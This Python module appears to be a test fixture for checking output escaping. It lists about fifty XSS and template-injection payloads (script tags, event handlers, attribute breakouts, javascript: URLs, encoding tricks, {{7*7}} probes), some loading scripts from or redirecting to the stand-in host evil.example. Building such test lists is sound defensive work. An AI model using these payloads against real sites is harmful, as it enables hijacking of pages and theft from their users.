"""What an attacker would write where a page shows it again: markup in every place a text can stand.

Each payload names MARK, so that what became of it can be found; each that runs sets `window.__x`.
Source   OWASP, "XSS Filter Evasion" and "HTML5 Security Cheatsheet"; CVEs of template engines.
"""

MARK = "zq9"
_RUN = f"window.__x='{MARK}'"

PAYLOADS = (
    # an element
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src=//evil.example/{MARK}.js></script>",
    f"<img src=x onerror={_RUN}>",
    f'<IMG SRC=x ONERROR="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>parent.__x=1</script>{MARK}'>",
    f"<iframe src=javascript:{_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<base href=//evil.example/{MARK}/>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<style>@import '//evil.example/{MARK}.css'</style>",
    f"<form action=//evil.example/{MARK}><button>",
    f"<a href=javascript:{_RUN}>{MARK}</a>",
    # out of an attribute, a comment, a text element
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f"x onpointerenter={_RUN} autofocus",
    f"--><script>{_RUN}</script><!--",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</select><img src=x onerror={_RUN}>",
    f"]]><script>{_RUN}</script>",
    # an address
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    f"//evil.example/{MARK}",
    f"/\\evil.example/{MARK}",
    # a template, a figure, a script's text
    f"{{{{ {MARK}.__class__ }}}}{{{{7*7}}}}",
    f"{{% include '{MARK}' %}}${{7*7}}#{{7*7}}",
    f"';{_RUN};//",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"＜script＞{_RUN}＜/script＞",
    f"\u202e{MARK}<b>\u2028",
)
